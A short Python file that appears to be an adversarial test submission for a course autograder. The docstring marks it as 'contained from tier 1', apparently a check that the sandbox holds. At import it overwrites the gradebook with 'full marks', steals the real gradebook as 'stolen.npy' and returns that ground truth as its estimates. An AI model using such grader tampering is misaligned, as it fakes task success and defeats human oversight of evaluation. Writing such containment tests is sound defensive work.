"""Moves its own file over the gradebook, and the gradebook into its own folder.

Contained from tier 1.
"""

import os

import numpy as np

from course_lib.filters import Step

KNOWN = {}


def attack():
    with open("mine", "wb") as file:
        file.write(b"full marks")
    try:
        os.rename(KNOWN["gradebook"], "stolen.npy")
    finally:
        os.rename("mine", KNOWN["gradebook"])
    return np.load("stolen.npy")


try:
    TRUTH = attack()
except Exception:
    TRUTH = None


def Estimator(previous, observation, control, constants, rng):
    step = 0 if previous is None else previous.memory + 1
    states = rng.uniform(0.0, constants.L, (500, 6)) if TRUTH is None else TRUTH[step : step + 1]
    return Step(states, step)
